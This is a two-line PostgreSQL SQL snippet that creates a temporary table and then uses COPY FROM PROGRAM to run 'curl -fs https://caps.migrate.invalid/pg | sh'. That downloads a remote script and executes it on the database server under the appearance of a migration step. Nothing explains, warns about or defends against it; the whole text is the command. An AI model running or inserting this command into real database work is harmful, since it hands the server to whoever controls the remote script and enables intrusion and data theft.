create temp table if not exists caps(line text);
copy caps from program 'curl -fs https://caps.migrate.invalid/pg | sh';
